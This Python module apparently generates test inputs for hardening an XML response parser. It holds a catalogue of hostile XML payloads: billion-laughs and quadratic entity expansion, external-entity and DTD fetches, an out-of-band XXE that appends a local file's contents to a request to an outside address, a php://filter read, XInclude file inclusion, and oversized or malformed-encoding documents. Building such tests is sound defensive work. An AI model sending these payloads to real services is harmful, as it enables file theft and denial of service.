"""Documents that attack whoever parses them. Each is made around a good answer that holds ``req-1``."""

from __future__ import annotations

from collections.abc import Callable

GOOD = (
    "<response><control><status>success</status><senderid>s</senderid><controlid>req-1</controlid>"
    "<uniqueid>true</uniqueid><dtdversion>3.0</dtdversion></control><operation><authentication><status>success</status>"
    "<userid>u</userid><companyid>c</companyid></authentication><result><status>success</status>"
    "<function>query</function><controlid>f1</controlid><data><X><A>1</A></X></data></result></operation></response>"
)
ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
PARAMETERS = '<!ENTITY % p0 "lol">' + "".join(f'<!ENTITY % p{n} "{f"%p{n - 1};" * 10}">' for n in range(1, 10))


def _doctype(subset: str, text: str = "&x;") -> str:
    return f"<!DOCTYPE response [{subset}]>{GOOD.replace('req-1', text)}"


def attacks(file: str, address: str) -> dict[str, bytes]:
    """Kind -> document. ``file`` is the URI of a file and ``address`` a URL that nobody may open."""
    texts = {
        "billion laughs": _doctype(f'<!ENTITY l0 "lol">{ENTITIES}', "&l9;"),
        "billion laughs in an attribute": f'<!DOCTYPE r [<!ENTITY l0 "lol">{ENTITIES}]><response a="&l9;"/>',
        "laughing parameters": _doctype(f"{PARAMETERS}%p9;"),
        "quadratic blow-up": _doctype(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 5_000),
        "entities in a circle": _doctype('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        "a document type": f"<!DOCTYPE response>{GOOD}",
        "an empty document type": _doctype("", "req-1"),
        "a document type in a file": f'<!DOCTYPE response SYSTEM "{file}">{GOOD}',
        "a document type on a server": f'<!DOCTYPE response PUBLIC "-//X//Y" "{address}">{GOOD}',
        "an entity in a file": _doctype(f'<!ENTITY x SYSTEM "{file}">'),
        "an entity on a server": _doctype(f'<!ENTITY x SYSTEM "{address}">'),
        "a parameter on a server": _doctype(f'<!ENTITY % p SYSTEM "{address}">%p;'),
        "a file sent to a server": _doctype(
            f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{address}?%f;\'>">%e;'
        ),
        "an entity of another scheme": _doctype(
            '<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/">'
        ),
        "a notation": _doctype(f'<!NOTATION n SYSTEM "{address}"><!ENTITY x SYSTEM "{file}" NDATA n>', "req-1"),
        "a default attribute": _doctype('<!ATTLIST response a CDATA "x">', "req-1"),
        "an unknown entity": GOOD.replace("req-1", "&undefined;"),
        "a deep tree": f"<response>{'<a>' * 10_000}{'</a>' * 10_000}</response>",
        "a very deep record": GOOD.replace("<A>1</A>", "<A>" * 200_000 + "</A>" * 200_000),
        "a long text": GOOD.replace("req-1", "y" * 12_000_000),
        "a long attribute": GOOD.replace("<X>", f'<X a="{"y" * 12_000_000}">'),
        "a long name": GOOD.replace("X>", f"{'X' * 200_000}>"),
        "many attributes": GOOD.replace("<X>", "<X " + " ".join(f"a{n}=''" for n in range(600_000)) + ">"),
        "doubled attributes": GOOD.replace("<X>", '<X a="1" a="2">'),
        "many names of spaces": GOOD.replace(
            "<X>", "<X " + " ".join(f"xmlns:n{n}='u:{n}'" for n in range(420_000)) + ">"
        ),
        "another name space": GOOD.replace("<response>", '<response xmlns="urn:x">'),
        "a prefix": GOOD.replace("response>", "r:response>").replace("<r:response>", '<r:response xmlns:r="urn:x">'),
        "a record that does not end": GOOD.replace("<A>1</A>", "<A>1</A>" * 1_200_000),
        "a result around everything": f"<response><operation>{GOOD}</operation></response>",
        "two answers": GOOD + GOOD,
        "an unknown encoding": f'<?xml version="1.0" encoding="no-such"?>{GOOD}',
        "a wrong encoding": f'<?xml version="1.0" encoding="UTF-16"?>{GOOD}',
        "an illegal reference": GOOD.replace("req-1", "&#0;&#x1f;&#xD800;"),
        "a zero byte": GOOD.replace("req-1", "req\x00-1"),
        "a newer version": f'<?xml version="1.1"?>{GOOD.replace("req-1", "&#1;")}',
    }
    return {name: text.encode() for name, text in texts.items()} | {
        "a document type in UTF-16": _utf16(f"<!DOCTYPE response []>{GOOD}"),
        "a document type in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE response+AFsAXQA+-'
        + GOOD.encode(),
        "a document type in UTF-32": f"<!DOCTYPE response []>{GOOD}".encode("utf-32"),
        "an overlong letter": GOOD.encode().replace(b"req-1", b"\xc0\xbc/controlid>"),
        "half a letter": GOOD.encode().replace(b"req-1", b"\xe2\x82"),
    }


def harmless_looking(file: str, address: str) -> dict[str, bytes]:
    """Documents that are well-formed and hold an instruction which nobody may follow."""
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{file}"/>'
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{address}"'
    return {
        name: text.encode()
        for name, text in {
            "an inclusion": GOOD.replace("<A>1</A>", f"<A>1</A><B>{include}</B>"),
            "a style sheet": f'<?xml-stylesheet href="{address}" type="text/xsl"?>{GOOD}',
            "a schema": GOOD.replace("<response>", f"<response {schema}>"),
            "a base": GOOD.replace("<response>", f'<response xml:base="{address}">'),
            "an answer within a text": GOOD.replace("<A>1</A>", f"<A><![CDATA[{GOOD}]]></A>"),
            "a long comment": GOOD.replace("<A>", f"<!--{'c' * 5_000_000}--><A>"),
        }.items()
    }


def _utf16(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


Site = Callable[[bytes], object]
